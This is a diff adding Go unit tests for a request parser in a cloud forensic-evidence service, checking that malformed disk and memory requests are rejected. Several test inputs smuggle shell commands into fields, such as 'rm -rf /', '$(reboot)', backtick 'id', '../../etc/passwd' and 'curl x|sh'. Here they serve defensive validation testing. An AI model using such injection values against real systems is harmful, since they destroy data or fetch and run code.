@@ -1,0 +1,264 @@
+package investigation
+
+import (
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const fixtureDir = "../../test/fixtures/requests"
+
+func readFixture(t *testing.T, name string) []byte {
+	t.Helper()
+	raw, err := os.ReadFile(filepath.Join(fixtureDir, name))
+	require.NoError(t, err)
+	return raw
+}
+
+// fixtureWith returns the fixture name decoded, changed by edit, encoded.
+func fixtureWith(t *testing.T, name string, edit func(m map[string]any)) []byte {
+	t.Helper()
+	var m map[string]any
+	require.NoError(t, json.Unmarshal(readFixture(t, name), &m))
+	edit(m)
+	raw, err := json.Marshal(m)
+	require.NoError(t, err)
+	return raw
+}
+
+// obj returns m[key] as an object, for edits of nested fields.
+func obj(m map[string]any, path ...string) map[string]any {
+	for _, k := range path {
+		m = m[k].(map[string]any)
+	}
+	return m
+}
+
+// snapshot returns the i-th snapshot of a disk request.
+func snapshot(m map[string]any, i int) map[string]any {
+	return obj(m, "disk")["snapshots"].([]any)[i].(map[string]any)
+}
+
+func TestParseRequestFixtures(t *testing.T) {
+	// Every file in the fixture folder must be listed here: valid ones with
+	// what they describe, invalid ones with the field they get wrong.
+	tests := map[string]struct {
+		wantField string
+		check     func(t *testing.T, req Request)
+	}{
+		"disk-ec2.json": {check: func(t *testing.T, req Request) {
+			assert.Equal(t, ForensicTypeDisk, req.ForensicType)
+			assert.Equal(t, "ec2#111122223333#eu-west-1#i-0a1b2c3d4e5f60718", req.Resource.Key())
+			assert.Equal(t, []string{"TTPs/Command and Control/Backdoor:EC2-C&CActivity.B!DNS"}, req.Finding.Types)
+			require.Len(t, req.Disk.Snapshots, 2)
+			assert.Equal(t, int32(100), req.Disk.Snapshots[1].SizeGiB)
+		}},
+		"memory-ec2.json": {check: func(t *testing.T, req Request) {
+			assert.Equal(t, ForensicTypeMemory, req.ForensicType)
+			assert.Equal(t, "lime", req.Memory.Format)
+			assert.Equal(t, int64(4294967296), req.Memory.SizeBytes)
+			assert.Nil(t, req.Disk)
+		}},
+		"disk-eks.json": {check: func(t *testing.T, req Request) {
+			assert.Equal(t, "eks#111122223333#eu-west-1#payments-prod", req.Resource.Key())
+			assert.Equal(t, "i-0c3d4e5f60718293a", req.Resource.TargetInstanceID())
+			assert.Equal(t, "cart-api-7d9f8b6c5d-x2kqp", req.Resource.EKS.PodName)
+		}},
+		"invalid-shell-metacharacters.json": {wantField: "forensicId"},
+		"invalid-path-traversal.json":       {wantField: "memory.s3Uri"},
+		"invalid-duplicate-snapshot.json":   {wantField: "disk.snapshots[1].snapshotId"},
+		"invalid-unknown-type.json":         {wantField: "forensicType"},
+		"invalid-missing-forensic-id.json":  {wantField: "forensicId"},
+		"invalid-wrong-type-size.json":      {wantField: "disk.snapshots.sizeGiB"},
+	}
+	files, err := filepath.Glob(filepath.Join(fixtureDir, "*.json"))
+	require.NoError(t, err)
+	require.NotEmpty(t, files)
+	for _, path := range files {
+		name := filepath.Base(path)
+		t.Run(name, func(t *testing.T) {
+			tt, ok := tests[name]
+			require.True(t, ok, "fixture %s has no expectation in this test", name)
+			req, err := ParseRequest(readFixture(t, name))
+			if tt.wantField == "" {
+				require.NoError(t, err)
+				tt.check(t, req)
+				return
+			}
+			var verr *ValidationError
+			require.True(t, errors.As(err, &verr), "want a *ValidationError, got %v", err)
+			assert.Equal(t, tt.wantField, verr.Field, "field named by %q", verr.Error())
+			assert.Equal(t, Request{}, req, "an invalid request decodes to nothing")
+		})
+	}
+	assert.Len(t, files, len(tests), "every expectation has a fixture file")
+}
+
+func TestParseRequestInvalid(t *testing.T) {
+	disk := func(edit func(m map[string]any)) []byte { return fixtureWith(t, "disk-ec2.json", edit) }
+	memory := func(edit func(m map[string]any)) []byte { return fixtureWith(t, "memory-ec2.json", edit) }
+	eks := func(edit func(m map[string]any)) []byte { return fixtureWith(t, "disk-eks.json", edit) }
+	set := func(path []string, key string, v any) func(m map[string]any) {
+		return func(m map[string]any) { obj(m, path...)[key] = v }
+	}
+	del := func(path []string, key string) func(m map[string]any) {
+		return func(m map[string]any) { delete(obj(m, path...), key) }
+	}
+	top := []string(nil)
+	resource := []string{"resource"}
+	manySnapshots := make([]any, MaxSnapshots+1)
+	for i := range manySnapshots {
+		manySnapshots[i] = map[string]any{"snapshotId": "snap-0a1b2c3d4e5f6071" + string(rune('a'+i%6)), "sourceVolumeId": "vol-0a1b2c3d4e5f60718", "sizeGiB": 8}
+	}
+
+	tests := []struct {
+		name      string
+		raw       []byte
+		wantField string
+	}{
+		{name: "empty body", raw: []byte("  "), wantField: "(request)"},
+		{name: "JSON null", raw: []byte("null"), wantField: "(request)"},
+		{name: "array instead of object", raw: []byte(`[{"forensicId":"cf-1"}]`), wantField: "(request)"},
+		{name: "truncated JSON", raw: []byte(`{"forensicId": "cf-1",`), wantField: "(request)"},
+		{name: "trailing second object", raw: append(readFixture(t, "disk-ec2.json"), []byte(`{"forensicType":"MEMORY"}`)...), wantField: "(request)"},
+		{name: "oversized", raw: disk(set(top, "padding", strings.Repeat("A", MaxRequestBytes))), wantField: "(request)"},
+		{name: "unknown field", raw: disk(set(top, "command", "rm -rf /")), wantField: "command"},
+		{name: "missing forensicId", raw: disk(del(top, "forensicId")), wantField: "forensicId"},
+		{name: "forensicId is a number", raw: disk(set(top, "forensicId", 42)), wantField: "forensicId"},
+		{name: "forensicId with semicolon and space", raw: disk(set(top, "forensicId", "cf-1; rm -rf /")), wantField: "forensicId"},
+		{name: "forensicId with command substitution", raw: disk(set(top, "forensicId", "$(reboot)")), wantField: "forensicId"},
+		{name: "forensicId with backticks", raw: disk(set(top, "forensicId", "cf-`id`")), wantField: "forensicId"},
+		{name: "forensicId path traversal", raw: disk(set(top, "forensicId", "../../etc/passwd")), wantField: "forensicId"},
+		{name: "forensicId starting with a dot", raw: disk(set(top, "forensicId", ".hidden")), wantField: "forensicId"},
+		{name: "forensicId too short", raw: disk(set(top, "forensicId", "cf")), wantField: "forensicId"},
+		{name: "forensicId too long", raw: disk(set(top, "forensicId", strings.Repeat("a", 65))), wantField: "forensicId"},
+		{name: "missing forensicType", raw: disk(del(top, "forensicType")), wantField: "forensicType"},
+		{name: "unknown forensicType", raw: disk(set(top, "forensicType", "NETWORK")), wantField: "forensicType"},
+		{name: "lower-case forensicType", raw: disk(set(top, "forensicType", "disk")), wantField: "forensicType"},
+		{name: "forensicType is a list", raw: disk(set(top, "forensicType", []any{"DISK"})), wantField: "forensicType"},
+		{name: "resource is a string", raw: disk(set(top, "resource", "i-0a1b2c3d4e5f60718")), wantField: "resource"},
+		{name: "account ID of 11 digits", raw: disk(set(resource, "accountId", "11112222333")), wantField: "resource.accountId"},
+		{name: "account ID is a number", raw: disk(set(resource, "accountId", 111122223333)), wantField: "resource.accountId"},
+		{name: "upper-case region", raw: disk(set(resource, "region", "EU-WEST-1")), wantField: "resource.region"},
+		{name: "region with a pipe", raw: disk(set(resource, "region", "eu-west-1|id")), wantField: "resource.region"},
+		{name: "short instance ID", raw: disk(set(resource, "instanceId", "i-0a1b2c")), wantField: "resource.instanceId"},
+		{name: "instance ID with upper-case hex", raw: disk(set(resource, "instanceId", "i-0A1B2C3D4E5F60718")), wantField: "resource.instanceId"},
+		{name: "instance ID of 16 hex", raw: disk(set(resource, "instanceId", "i-0a1b2c3d4e5f6071")), wantField: "resource.instanceId"},
+		{name: "neither instance nor EKS", raw: disk(del(resource, "instanceId")), wantField: "resource"},
+		{name: "both instance and EKS", raw: eks(set(resource, "instanceId", "i-0a1b2c3d4e5f60718")), wantField: "resource"},
+		{name: "EKS cluster name with a slash", raw: eks(set([]string{"resource", "eks"}, "clusterName", "prod/../x")), wantField: "resource.eks.clusterName"},
+		{name: "EKS node is not an instance", raw: eks(set([]string{"resource", "eks"}, "nodeInstanceId", "ip-10-0-0-1")), wantField: "resource.eks.nodeInstanceId"},
+		{name: "EKS namespace upper case", raw: eks(set([]string{"resource", "eks"}, "namespace", "Checkout")), wantField: "resource.eks.namespace"},
+		{name: "EKS pod name with semicolon", raw: eks(set([]string{"resource", "eks"}, "podName", "cart;reboot")), wantField: "resource.eks.podName"},
+		{name: "finding ID empty", raw: disk(set([]string{"finding"}, "id", "")), wantField: "finding.id"},
+		{name: "finding type with a newline", raw: disk(set([]string{"finding"}, "types", []any{"Backdoor:EC2/C&CActivity.B\nINJECTED"})), wantField: "finding.types[0]"},
+		{name: "unknown severity", raw: disk(set([]string{"finding"}, "severity", "SEVERE")), wantField: "finding.severity"},
+		{name: "DISK without disk", raw: disk(del(top, "disk")), wantField: "disk"},
+		{name: "DISK with memory too", raw: disk(func(m map[string]any) { m["memory"] = obj(decode(t, readFixture(t, "memory-ec2.json")), "memory") }), wantField: "memory"},
+		{name: "no snapshots", raw: disk(set([]string{"disk"}, "snapshots", []any{})), wantField: "disk.snapshots"},
+		{name: "too many snapshots", raw: disk(set([]string{"disk"}, "snapshots", manySnapshots)), wantField: "disk.snapshots"},
+		{name: "snapshot ID of wrong shape", raw: disk(func(m map[string]any) { snapshot(m, 0)["snapshotId"] = "snap-zz" }), wantField: "disk.snapshots[0].snapshotId"},
+		{name: "volume ID given as snapshot", raw: disk(func(m map[string]any) { snapshot(m, 1)["snapshotId"] = "vol-0b2c3d4e5f6071829" }), wantField: "disk.snapshots[1].snapshotId"},
+		{name: "duplicate snapshots", raw: disk(func(m map[string]any) { snapshot(m, 1)["snapshotId"] = snapshot(m, 0)["snapshotId"] }), wantField: "disk.snapshots[1].snapshotId"},
+		{name: "source volume with traversal", raw: disk(func(m map[string]any) { snapshot(m, 0)["sourceVolumeId"] = "vol-../../dev/sda" }), wantField: "disk.snapshots[0].sourceVolumeId"},
+		{name: "snapshot size zero", raw: disk(func(m map[string]any) { snapshot(m, 0)["sizeGiB"] = 0 }), wantField: "disk.snapshots[0].sizeGiB"},
+		{name: "snapshot size too large", raw: disk(func(m map[string]any) { snapshot(m, 0)["sizeGiB"] = MaxSnapshotGiB + 1 }), wantField: "disk.snapshots[0].sizeGiB"},
+		{name: "MEMORY without memory", raw: memory(del(top, "memory")), wantField: "memory"},
+		{name: "MEMORY with disk too", raw: memory(func(m map[string]any) { m["disk"] = obj(decode(t, readFixture(t, "disk-ec2.json")), "disk") }), wantField: "disk"},
+		{name: "dump URI over HTTPS", raw: memory(set([]string{"memory"}, "s3Uri", "https://bucket.example/dump.lime")), wantField: "memory.s3Uri"},
+		{name: "dump key with traversal", raw: memory(set([]string{"memory"}, "s3Uri", "s3://evidence/memory/../../secrets")), wantField: "memory.s3Uri"},
+		{name: "dump key with shell characters", raw: memory(set([]string{"memory"}, "s3Uri", "s3://evidence/dump;rm -rf $HOME")), wantField: "memory.s3Uri"},
+		{name: "dump key too long", raw: memory(set([]string{"memory"}, "s3Uri", "s3://evidence/"+strings.Repeat("k", 1025))), wantField: "memory.s3Uri"},
+		{name: "dump bucket upper case", raw: memory(set([]string{"memory"}, "s3Uri", "s3://Evidence/dump.lime")), wantField: "memory.s3Uri"},
+		{name: "upper-case SHA-256", raw: memory(set([]string{"memory"}, "sha256", strings.Repeat("A", 64))), wantField: "memory.sha256"},
+		{name: "short SHA-256", raw: memory(set([]string{"memory"}, "sha256", "5f70bf18")), wantField: "memory.sha256"},
+		{name: "negative dump size", raw: memory(set([]string{"memory"}, "sizeBytes", -1)), wantField: "memory.sizeBytes"},
+		{name: "unknown dump format", raw: memory(set([]string{"memory"}, "format", "vmem")), wantField: "memory.format"},
+		{name: "kernel release with shell characters", raw: memory(set([]string{"memory"}, "kernelRelease", "6.1.0 && curl x|sh")), wantField: "memory.kernelRelease"},
+	}
+	require.GreaterOrEqual(t, len(tests), 25)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req, err := ParseRequest(tt.raw)
+
+			var verr *ValidationError
+			require.True(t, errors.As(err, &verr), "want a *ValidationError, got %v", err)
+			assert.Equal(t, tt.wantField, verr.Field, "field named by %q", verr.Error())
+			assert.NotEmpty(t, verr.Problem)
+			assert.Contains(t, verr.Error(), tt.wantField)
+			assert.Equal(t, Request{}, req)
+		})
+	}
+}
+
+func decode(t *testing.T, raw []byte) map[string]any {
+	t.Helper()
+	var m map[string]any
+	require.NoError(t, json.Unmarshal(raw, &m))
+	return m
+}
+
+func TestParseRequestValid(t *testing.T) {
+	tests := []struct {
+		name string
+		raw  []byte
+		want Request
+	}{
+		{
+			name: "minimal EC2 disk request",
+			raw: []byte(`{"forensicId":"cf-1","forensicType":"DISK",
+				"resource":{"accountId":"111122223333","region":"eu-west-1","instanceId":"i-0a1b2c3d4e5f60718"},
+				"disk":{"snapshots":[{"snapshotId":"snap-0a1b2c3d4e5f60718","sourceVolumeId":"vol-0a1b2c3d4e5f60718","sizeGiB":16384}]}}`),
+			want: Request{
+				ForensicID: "cf-1", ForensicType: ForensicTypeDisk,
+				Resource: Resource{AccountID: "111122223333", Region: "eu-west-1", InstanceID: "i-0a1b2c3d4e5f60718"},
+				Disk: &DiskEvidence{Snapshots: []Snapshot{
+					{SnapshotID: "snap-0a1b2c3d4e5f60718", SourceVolumeID: "vol-0a1b2c3d4e5f60718", SizeGiB: 16384},
+				}},
+			},
+		},
+		{
+			name: "short legacy IDs and a GuardDuty finding type with & and !",
+			raw: []byte(`{"forensicId":"INC_2026.03-07","forensicType":"DISK",
+				"resource":{"accountId":"111122223333","region":"us-gov-west-1","instanceId":"i-0a1b2c3d"},
+				"finding":{"id":"f1","types":["TTPs/Command and Control/Backdoor:EC2-C&CActivity.B!DNS"]},
+				"disk":{"snapshots":[{"snapshotId":"snap-0a1b2c3d","sourceVolumeId":"vol-0a1b2c3d","sizeGiB":1}]}}`),
+			want: Request{
+				ForensicID: "INC_2026.03-07", ForensicType: ForensicTypeDisk,
+				Resource: Resource{AccountID: "111122223333", Region: "us-gov-west-1", InstanceID: "i-0a1b2c3d"},
+				Finding:  &Finding{ID: "f1", Types: []string{"TTPs/Command and Control/Backdoor:EC2-C&CActivity.B!DNS"}},
+				Disk: &DiskEvidence{Snapshots: []Snapshot{
+					{SnapshotID: "snap-0a1b2c3d", SourceVolumeID: "vol-0a1b2c3d", SizeGiB: 1},
+				}},
+			},
+		},
+		{
+			name: "EKS memory request without namespace or pod",
+			raw: []byte(`{"forensicId":"cf-2","forensicType":"MEMORY",
+				"resource":{"accountId":"111122223333","region":"eu-west-1","eks":{"clusterName":"prod","nodeInstanceId":"i-0c3d4e5f60718293a"}},
+				"memory":{"s3Uri":"s3://casefile-evidence/memory/node.avml","sha256":"5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef",
+				"sizeBytes":1,"format":"avml","kernelRelease":"5.10.228-219.884.amzn2.x86_64"}}`),
+			want: Request{
+				ForensicID: "cf-2", ForensicType: ForensicTypeMemory,
+				Resource: Resource{AccountID: "111122223333", Region: "eu-west-1", EKS: &EKSWorkload{ClusterName: "prod", NodeInstanceID: "i-0c3d4e5f60718293a"}},
+				Memory: &MemoryEvidence{
+					S3URI: "s3://casefile-evidence/memory/node.avml", SHA256: "5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef",
+					SizeBytes: 1, Format: "avml", KernelRelease: "5.10.228-219.884.amzn2.x86_64",
+				},
+			},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := ParseRequest(tt.raw)
+			require.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+}
